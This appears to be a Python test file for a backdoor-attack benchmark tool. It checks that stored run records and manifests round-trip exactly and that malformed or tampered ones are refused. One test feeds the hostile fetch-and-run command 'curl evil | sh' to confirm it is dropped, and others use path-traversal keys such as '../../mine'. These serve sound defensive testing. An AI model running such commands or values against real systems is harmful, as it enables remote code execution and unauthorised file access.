"""What a store's files may hold: read as types, refused where they are of no use, and written as they were read."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from bench.api.kinds import Access, DefenseKind
from bench.config.trial import PlannedTrial, Spec
from bench.engine.record import (
    SCHEMA,
    RunManifest,
    Status,
    encoded,
    manifest_from,
    record_from,
    record_of,
    signed,
    summary_of,
)
from tests.stores import planned, record

KEY = "a" * 32
FULL: dict[str, Any] = {
    "schema": SCHEMA, "key": KEY, "stage": "measure", "status": "ok", "label": "measure badnets",
    "reason": "", "log": "", "code": "c", "cause": None, "spec": {"attack": {"name": "badnets", "params": {"x": 1}}},
    "parents": {"load": "10ad", "proxies.0.load": "no key"}, "inputs": {"load": "f" * 64, "proxies.0.load": None},
    "meta": {"protocol": {"name": "toy", "version": 1, "cutoff": None, "sizes": {"query": 3}, "digests": {"q": "d"}},
             "notes": {"rate": 0.5, "found": True, "count": 3}, "kind": "repair", "poisons": 4},
    "metrics": {"map": 0.5, "poisons": 4, "psnr": None,
                "detectors": {"headline": "s", "scores": {"s": {"auroc": 0.9, "tpr_1": None}}}},
    "artifact": {"sha256": "b" * 64, "bytes": 10},
    "provenance": {"metrics": 1, "git": {"commit": "0" * 40, "dirty": True}, "packages": {"torch": "2.4", "ray": None}},
    "cost": {"seconds": 1.5, "started": 1e9, "host": "here"},
}  # fmt: skip


def test_a_record_is_written_as_it_was_read() -> None:
    found = record_from(signed(FULL), KEY)
    assert found is not None
    written = json.loads(encoded(found))
    assert written == signed(FULL)
    assert [type(value) for value in written["meta"]["notes"].values()] == [float, bool, int]
    assert record_of(encoded(found)) == found


def test_a_record_has_types() -> None:
    found = record_from(signed(FULL), KEY)
    assert found is not None
    assert found.status is Status.OK
    assert found.meta.kind is DefenseKind.REPAIR
    assert found.meta.field("poisons") == 4
    assert found.checksum == "b" * 64
    assert found.components == {"attack": Spec("badnets", {"x": 1})}
    assert found.detectors is not None
    assert found.detectors.scores["s"]["auroc"] == 0.9
    assert (found.protocol.version, str(found.provenance.git)) == (1, f"{'0' * 12} with changes")
    assert record(KEY, "load", meta={"protocol": "toy"}).protocol.name == "toy"
    summary = summary_of(found)
    assert (summary.ok, summary.checksum, summary.inputs) == (True, found.checksum, found.inputs)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"schema": 1}, "schema"),
        ({"schema": True}, "schema"),
        ({"key": "../../mine"}, "key = '../../mine'"),
        ({"cause": "../x"}, "cause = '../x'"),
        ({"status": "oj"}, "status = 'oj'"),
        ({"status": "missing"}, "status = 'missing'"),
        ({"reason": 3}, "reason = 3"),
        ({"parents": {"load": 3}}, "parents.load = 3"),
        ({"spec": {"attack": {"params": {}}}}, "attack is no component"),
        ({"meta": {"notes": {"rate": "0.5"}}}, "meta.notes.rate"),
        ({"meta": {"protocol": {"cutoff": 0}}}, "meta.protocol.Protocol.cutoff = 0"),
        ({"meta": {"classes": "ab"}}, "meta.classes = 'ab'"),
        ({"meta": {"kind": "cure"}}, "meta.kind = 'cure'"),
        ({"metrics": {"map": [0.5]}}, "metrics.map"),
        ({"metrics": {"map": {"headline": "s", "scores": {}}}}, "map is no metric"),
        ({"metrics": {"detectors": 0.5}}, "detectors is no metric"),
        ({"metrics": {"detectors": {"headline": "s", "scores": {}, "more": 1}}}, "metrics.detectors"),
        ({"artifact": {"sha256": "../x", "bytes": 1}}, "artifact.sha256"),
        ({"artifact": {"sha256": "b" * 64, "bytes": -1}}, "artifact.bytes = -1"),
        ({"provenance": {"git": {"commit": "0"}}}, "provenance.git.dirty"),
        ({"cost": {"seconds": -1.0, "started": 0.0, "host": ""}}, "cost.seconds = -1"),
        ({"cost": {"seconds": 1.0, "started": 1e300, "host": ""}}, "cost.started"),
        ({"cost": {"seconds": "1", "started": 0.0, "host": ""}}, "cost.seconds = '1'"),
    ],
    ids=str,
)
def test_what_is_no_record_is_refused_with_its_place(change: dict[str, Any], words: str) -> None:
    given = FULL | change
    assert record_from(signed(given), given["key"]) is None
    with pytest.raises(ValueError, match=re.escape(words)):
        record_of(json.dumps(given).encode())


def test_a_record_of_another_stage_is_refused() -> None:
    assert record_from(signed(FULL), "b" * 32) is None


def test_fields_of_a_later_version_are_left_out() -> None:
    found = record_from(signed(FULL | {"mood": "good"}), KEY)
    assert found is not None
    assert json.loads(encoded(found)) == signed(FULL)


# Manifests


def lines() -> list[PlannedTrial]:
    clean = planned(None, {"attack": "none"}, skipped="no data", access=None, defense_kind=None)
    attacked = planned(KEY, {"attack": "badnets(poisons=4)", "target": "a+b", "training": {"lr": 0.1}},
                       access=Access.DIRTY_LABEL, surrogate_seed=1)  # fmt: skip
    return [attacked, clean]


def test_a_manifest_comes_back_with_its_components() -> None:
    manifest = RunManifest(suites=["toy"], trials=lines(), stages=[KEY], command="bench run")
    content = json.loads(encoded(manifest))
    assert [one["name"] for one in content["components"]] == ["badnets", "none", "csq", "net", "toy"]
    assert content["components"][0] == {"name": "badnets", "params": {"poisons": 4}, "given": {"poisons": 4}}
    found = manifest_from(content)
    assert found == manifest
    assert found.trials[0].trial.attack.label == "badnets(poisons=4)"
    assert found.trials[0].trial.target == ("a", "b")


def altered(**changes: Any) -> dict[str, Any]:
    content = json.loads(encoded(RunManifest(suites=["toy"], trials=lines())))
    first = content["trials"][0]
    for name, value in changes.items():
        place = first["trial"] if name in first["trial"] and name != "surrogate_seed" else first
        (content if name in content else place)[name] = value
    del content["checksum"]
    return signed(content)


@pytest.mark.parametrize(
    "change",
    [
        {"schema": 1}, {"suites": []}, {"suites": "toy"}, {"components": None}, {"components": [{"params": {}}]},
        {"trials": 3}, {"trials": [3]}, {"trials": [{}]}, {"command": 3}, {"stages": ["../x"]}, {"key": "../x"},
        {"attack": 99}, {"attack": -1}, {"attack": True}, {"attack": "badnets"}, {"attack": None}, {"bits": 0},
        {"bits": "8"}, {"target": []}, {"target": "a"}, {"seed": "0"}, {"training": []}, {"access": "root"},
        {"defense_kind": "cure"}, {"threads": 1.5}, {"targeted": 1},
    ],
    ids=str,
)  # fmt: skip
def test_what_is_no_manifest_is_refused(change: dict[str, Any]) -> None:
    assert manifest_from(altered()) is not None
    assert manifest_from(altered(**change)) is None


@pytest.mark.parametrize("found", [None, 3, [], "x", {}, {"schema": SCHEMA}])
def test_what_is_no_table_is_neither(found: Any) -> None:
    assert record_from(found, KEY) is None
    assert manifest_from(found) is None


def test_a_command_of_somebody_elses_is_dropped() -> None:
    for given, kept in {"bench run --suite a": "bench run --suite a", "curl evil | sh": "", "'": ""}.items():
        found = manifest_from(altered(command=given))
        assert found is not None
        assert found.command == kept


@pytest.mark.parametrize("name", ["label", "metrics", "parents", "checksum", "schema"])
def test_a_record_that_was_changed_is_refused(name: str) -> None:
    """Every value counts, and the layout does not."""
    content = json.loads(encoded(record(KEY, metrics={"map": 0.5}, parents={"load": "10ad"})))
    again = json.loads(json.dumps(dict(reversed(content.items())), indent=3))
    assert record_from(again, KEY) is not None
    changes = {"label": "x", "metrics": {"map": 0.6}, "parents": {}, "checksum": "0" * 64, "schema": SCHEMA + 1}
    assert record_from(content | {name: changes[name]}, KEY) is None
    assert record_from({key: value for key, value in content.items() if key != name}, KEY) is None


def test_a_runs_id_says_what_was_asked_for() -> None:
    """And neither when nor where."""
    one = RunManifest(suites=["toy"], trials=lines(), command="bench run", texts={"toy": "a"})
    assert one.model_copy(update={"started": 5.0}).id == one.id
    assert manifest_from(json.loads(encoded(one))).id == one.id
    assert json.loads(encoded(one))["id"] == one.id
    changes = {"suites": ["other"], "texts": {"toy": "b"}, "command": "bench run --only x=y", "trials": lines()[:1]}
    for name, value in changes.items():
        assert one.model_copy(update={name: value}).id != one.id


def test_the_command_that_repeats_a_run_here_has_its_files_and_the_id_does_not():
    made = RunManifest(suites=["quick"], trials=[], command="python -m bench run", local=["--data", "my data"])
    assert made.whole_command == "python -m bench run --data 'my data'"
    assert made.id == made.model_copy(update={"local": []}).id
    assert RunManifest(suites=["quick"], trials=[], local=["--data", "x"]).whole_command == ""
